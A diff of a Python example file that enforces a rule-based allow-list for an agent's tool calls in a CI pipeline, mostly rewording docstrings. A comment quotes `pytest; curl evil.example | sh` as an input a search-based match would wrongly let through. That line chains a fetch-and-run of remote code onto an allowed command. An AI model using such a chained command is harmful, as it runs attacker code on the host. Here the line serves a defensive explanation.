@@ -1,7 +1,7 @@
-"""Let written rules decide where nobody can be asked: `python examples/ci_policy.py [release]`.
+"""Let rules decide if no approver can be asked, as in a pipeline: `python examples/ci_policy.py [release]`.
 
-The exit code tells the pipeline: 0 if everything the agent wanted was allowed, 1 if something was refused. The run
-itself goes on after a refusal, so the log shows everything the agent would have needed.
+The exit code is 0 if every call was allowed, and 1 if one was refused. A refusal does not end the run, so the log shows
+all calls that the agent wants to make.
 """
 
 import re
@@ -17,17 +17,17 @@ from pydantic_ai_deferred import Agent
 
 @dataclass(frozen=True, kw_only=True)
 class Rule:
-    """Allows one tool if each named argument matches."""
+    """A rule that allows calls of one tool with matching arguments."""
 
     tool: str
-    """The tool's name."""
+    """Name of the tool."""
     args: dict[str, str]
-    """A regular expression by argument name. Every argument of the tool must be named, those with a default too."""
+    """Regular expressions by argument name. They must name every argument, including those with a default."""
 
     def allows(self, call: ToolCallPart) -> bool:
-        """Whether the whole call is what the rule says."""
+        """Whether the rule allows the call."""
         args = call.args_as_dict()
-        # The whole text has to match: with a search, `pytest; curl evil.example | sh` would pass as `pytest`.
+        # The whole text must match: with a search, `pytest; curl evil.example | sh` would count as `pytest`.
         return (
             call.tool_name == self.tool
             and args.keys() == self.args.keys()
@@ -37,15 +37,15 @@ class Rule:
 
 @dataclass
 class Policy:
-    """A handler: what no rule allows is refused."""
+    """A handler that refuses every call that no rule allows."""
 
     rules: Sequence[Rule]
-    """What is allowed."""
+    """Rules that allow calls."""
     refused: list[str] = field(default_factory=list[str])
-    """What was refused so far, one line a call."""
+    """Refused calls, one line each."""
 
     def __call__(self, ctx: RunContext[object], requests: DeferredToolRequests) -> DeferredToolResults:
-        """Decide about every call, and keep what was refused."""
+        """Decide about every call, and note the refused ones."""
         results = DeferredToolResults()
         for call in requests.approvals:
             is_allowed = any(rule.allows(call) for rule in self.rules)
@@ -57,13 +57,13 @@ class Policy:
                 self.refused.append(describe(call))
         for call in requests.calls:
             print('refused', describe(call))
-            results.calls[call.tool_call_id] = ToolFailed('Nobody is there to do this in a pipeline.')
+            results.calls[call.tool_call_id] = ToolFailed('A pipeline cannot do this.')
             self.refused.append(describe(call))
         return results
 
 
 def describe(call: ToolCallPart) -> str:
-    """One line for the log, whatever the arguments contain."""
+    """Return one line for the log, whatever the arguments contain."""
     return f'{call.tool_name}({call.args_as_dict()!r})'
 
 
@@ -74,7 +74,7 @@ RULES = (
 
 
 def plan(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
-    """Stand in for a language model: test and upload, or try more than that where the prompt says "release"."""
+    """Stand in for a language model: test and upload, and do more if the prompt contains "release"."""
     returns = [part for part in messages[-1].parts if isinstance(part, ToolReturnPart)]
     if returns:
         return ModelResponse(parts=[TextPart('\n'.join(f'- {part.content}' for part in returns))])
@@ -95,13 +95,13 @@ agent = Agent(FunctionModel(plan))
 
 @agent.tool_plain(requires_approval=True)
 def run(command: str) -> str:
-    """Run a command; this example only says so."""
+    """Pretend to run a command."""
     return f'ran {command}'
 
 
 @agent.tool_plain(requires_approval=True)
 def upload(target: str) -> str:
-    """Upload the build; this example only says so."""
+    """Pretend to upload the build."""
     return f'uploaded to {target}'
 
 
